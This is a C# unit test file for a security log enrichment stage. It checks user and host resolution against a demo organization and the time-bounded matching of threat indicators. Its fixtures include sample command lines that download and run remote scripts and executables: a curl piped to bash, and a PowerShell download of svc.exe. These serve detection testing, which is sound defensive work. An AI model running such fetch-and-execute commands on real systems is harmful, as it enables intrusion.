using Vigil.Ingest.Enrichment;
using Vigil.Ingest.Enrichment.Indicators;
using Vigil.Ingest.Normalization;
using Vigil.Ingest.Tests.Support;

namespace Vigil.Ingest.Tests.Enrichment;

/// <summary>The enrichment stage on normalized views, with the demo context in samples/context.</summary>
public sealed class ContextEnricherTests
{
    private static readonly Lazy<OrganizationContext> Demo = new(() =>
    {
        var result = OrganizationContext.Load(Path.Combine(SharedData.RepoRoot, "samples", "context"));
        result.Errors.ShouldBeEmpty();
        return result.Context;
    });

    private static readonly long EventTime = new DateTime(2026, 11, 2, 10, 0, 0, DateTimeKind.Utc).Ticks;

    [Theory]
    [InlineData("jdoe", "CORP", "jdoe", "resolved")]
    [InlineData("CORP\\jdoe", null, "jdoe", "resolved")]
    [InlineData("jdoe@corp.example", null, "jdoe", "resolved")]
    [InlineData("S-1-5-21-3623811015-3361044348-30300820-1104", null, "jdoe", "resolved")]
    [InlineData("CN=jdoe,OU=Staff,DC=corp,DC=example", null, "jdoe", "resolved")]
    [InlineData("AROAE9802F75D53314250:jdoe@corp.example", null, "jdoe", "resolved")]
    [InlineData("CN=nobody,OU=Staff,DC=corp,DC=example", null, null, "unresolved")]
    [InlineData("tnguyen", "CORP", null, "unresolved")]
    [InlineData("SYSTEM", "NT AUTHORITY", null, "system")]
    public void Enrich_ActorUser_ResolvedToCanonical(string name, string? domain, string? canonical, string resolution)
    {
        var view = View(("actor.user.name", name));
        if (domain is not null)
        {
            view.Set("actor.user.domain", domain);
        }

        var enricher = new ContextEnricher(Demo.Value);
        enricher.Enrich(view, "file.json", new List<IndicatorHit>());

        view.Get("actor.user.context.resolution").ShouldBe(resolution);
        view.Get("actor.user.context.id").ShouldBe(canonical);
        if (canonical == "jdoe")
        {
            view.Get("actor.user.context.business_unit").ShouldBe("Finance");
            view.Get("actor.user.context.peer_group").ShouldBe("finance-analysts");
            view.Get("actor.user.context.privileged").ShouldBe("false");
        }
    }

    [Fact]
    public void Enrich_UnresolvedName_FallsBackToSid()
    {
        var view = View(("user.name", "somebody-renamed"), ("user.uid", "S-1-5-21-3623811015-3361044348-30300820-1507"));

        new ContextEnricher(Demo.Value).Enrich(view, "f", new List<IndicatorHit>());

        view.Get("user.context.id").ShouldBe("adm-lchen");
        view.Get("user.context.privileged").ShouldBe("true");
    }

    [Fact]
    public void Enrich_Hosts_ByNameThenAddress_WithCriticalityAndTags()
    {
        var view = View(("device.hostname", "dc01.corp.example"), ("src_endpoint.ip", "10.20.0.21"), ("dst_endpoint.ip", "8.8.8.8"));

        new ContextEnricher(Demo.Value).Enrich(view, "f", new List<IndicatorHit>());

        view.Get("device.context.name").ShouldBe("DC01");
        view.Get("device.context.criticality").ShouldBe("critical");
        view.Get("device.context.tags")!.Split(",").ShouldContain("domain-controller", StringComparer.Ordinal);
        view.Get("src_endpoint.context.name").ShouldBe("FS01");
        view.Get("dst_endpoint.context.resolution").ShouldBe("unresolved");
    }

    [Fact]
    public void Enrich_CountsUnresolvedPerSource_ExternalNamesAndAddressesNotCountedAsMisses()
    {
        var enricher = new ContextEnricher(Demo.Value);
        var hits = new List<IndicatorHit>();
        var view = View(("device.hostname", "WS-0408"), ("actor.user.name", "tnguyen"), ("dst_endpoint.ip", "8.8.8.8"), ("src_endpoint.hostname", "cdn.example.org"));
        enricher.Enrich(view, "f", hits);
        enricher.Enrich(View(("device.hostname", "DC01"), ("actor.user.name", "jdoe@corp.example")), "f", hits);

        var summary = enricher.Stats.Snapshot().ShouldHaveSingleItem();
        summary.Source.ShouldBe("test-source");
        summary.HostsResolved.ShouldBe(1);
        summary.HostsUnresolved.ShouldBe(1);
        summary.UsersResolved.ShouldBe(1);
        summary.UsersUnresolved.ShouldBe(1);
        summary.TopUnresolvedHosts.ShouldHaveSingleItem().Value.ShouldBe("WS-0408");
        summary.TopUnresolvedUsers.ShouldHaveSingleItem().Value.ShouldBe("tnguyen");
    }

    [Fact]
    public void Enrich_NoSourceType_CountedUnderFallbackSource()
    {
        var enricher = new ContextEnricher(Demo.Value);
        var view = View(("device.hostname", "nas01"));
        view.Source = null;

        enricher.Enrich(view, "logs/a.json", new List<IndicatorHit>());

        enricher.Stats.Snapshot().ShouldHaveSingleItem().Source.ShouldBe("logs/a.json");
    }

    [Theory]
    [InlineData("dst_endpoint.ip", "198.51.100.23", 2026, 11, 2, true)]
    [InlineData("dst_endpoint.ip", "198.51.100.23", 2026, 10, 1, false)]
    [InlineData("dst_endpoint.ip", "198.51.100.77", 2026, 11, 2, false)]
    [InlineData("src_endpoint.ip", "203.0.113.88", 2026, 11, 2, true)]
    [InlineData("src_endpoint.ip", "203.0.113.88", 2027, 1, 2, false)]
    [InlineData("query.hostname", "evil-updates.example", 2026, 10, 2, true)]
    [InlineData("query.hostname", "evil-updates.example", 2026, 11, 2, false)]
    public void Enrich_Indicators_MatchAtEventTime(string path, string value, int year, int month, int day, bool expected)
    {
        var view = View((path, value));
        view.TimeTicks = new DateTime(year, month, day, 0, 0, 0, DateTimeKind.Utc).Ticks;
        var hits = new List<IndicatorHit>();

        new ContextEnricher(Demo.Value).Enrich(view, "f", hits);

        if (expected)
        {
            var hit = hits.ShouldHaveSingleItem();
            hit.Attribute.ShouldBe(path);
            hit.Value.ShouldBe(value);
            hit.Indicator.Techniques.ShouldNotBeEmpty();
        }
        else
        {
            hits.ShouldBeEmpty();
        }
    }

    [Fact]
    public void Enrich_UrlsInCommandLines_MatchedByUrlAndHost()
    {
        var view = View(
            ("process.cmd_line", "/bin/sh -c \"curl -fsSL http://203.0.113.88/x.sh | bash\""),
            ("process.parent_process.cmd_line", "powershell -c iwr http://198.51.100.61/tools/svc.exe -OutFile C:\\Users\\Public\\svc.exe"));
        var hits = new List<IndicatorHit>();

        new ContextEnricher(Demo.Value).Enrich(view, "f", hits);

        hits.Select(h => (h.Attribute, h.Indicator.Kind)).ShouldBe(
        [
            ("process.cmd_line", IndicatorKind.IpAddress),
            ("process.parent_process.cmd_line", IndicatorKind.Url),
        ]);
    }

    [Fact]
    public void Enrich_SysmonHashList_MatchesTheSha256()
    {
        var view = View(("process.file.hashes", "SHA1=AAAA,MD5=BBBB,SHA256=DB572F4C8C64289D47176D07DF1F205DC71CDBCE7C7AE6A5E9C080CB74F21B08,IMPHASH=CCCC"));
        var hits = new List<IndicatorHit>();

        new ContextEnricher(Demo.Value).Enrich(view, "f", hits);

        var hit = hits.ShouldHaveSingleItem();
        hit.Indicator.Kind.ShouldBe(IndicatorKind.Sha256);
        hit.Attribute.ShouldBe("process.file.hashes");
    }

    [Fact]
    public void Enrich_EmptyContext_NothingResolvedNothingThrown()
    {
        using var dir = new TempDirectory();
        var context = OrganizationContext.Load(dir.Path).Context;
        var view = View(("actor.user.name", "jdoe"), ("device.hostname", "DC01"), ("dst_endpoint.ip", "198.51.100.23"));
        var hits = new List<IndicatorHit>();

        new ContextEnricher(context).Enrich(view, "f", hits);

        hits.ShouldBeEmpty();
        view.Get("actor.user.context.resolution").ShouldBe("unresolved");
        view.Get("device.context.resolution").ShouldBe("unresolved");
    }

    private static NormalizedEvent View(params (string Path, string Value)[] attributes)
    {
        var view = new NormalizedEvent { Source = "test-source", TimeTicks = EventTime };
        foreach (var (path, value) in attributes)
        {
            view.Set(path, value);
        }

        return view;
    }
}
